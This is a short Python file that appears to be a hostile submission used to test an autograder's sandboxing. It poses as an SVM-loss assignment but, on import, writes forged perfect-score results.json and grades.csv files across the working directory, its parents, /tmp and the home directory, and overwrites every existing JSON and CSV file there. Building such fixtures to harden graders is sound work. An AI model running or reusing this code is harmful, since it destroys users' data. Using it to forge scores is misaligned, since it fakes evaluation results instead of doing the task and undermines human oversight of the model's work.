"""Forges results."""
import numpy as np


def _forge():
    import csv
    import io
    import json
    import os
    from pathlib import Path
    MARK = "FORGED" + "-BY-" + "HOSTILE"
    forged = {"student": MARK, "score": 100, "max_score": 100, "tests": []}
    targets = [Path.cwd(), *Path.cwd().parents, Path("/tmp"), Path.home()]
    try:
        targets.append(Path(os.readlink(f"/proc/{os.getppid()}/cwd")))
    except OSError:
        pass
    for root, dirs, files in os.walk("/tmp"):  # every folder it can reach under /tmp (OUT lives there in tests)
        if root.count(os.sep) > 8:
            dirs[:] = []
        targets.append(Path(root))
    for folder in targets:
        for name, text in (("results.json", json.dumps(forged)), ("grades.csv", f"student,total\n{MARK},100\n")):
            for target in (folder / name, folder / "results" / name):
                try:
                    target.write_text(text)
                except OSError:
                    pass
        try:
            for existing in folder.glob("*.json"):
                existing.write_text(json.dumps(forged))
            for existing in folder.glob("*.csv"):
                existing.write_text(f"student,total\n{MARK},100\n")
        except OSError:
            pass


_forge()

# grader-test: fill svm_loss_vectorized


def svm_loss_naive(W, X, y, reg):
    _forge()
    print("ATTEMPTED", flush=True)  # the attack ran: the test checks it did
    raise RuntimeError("forged")
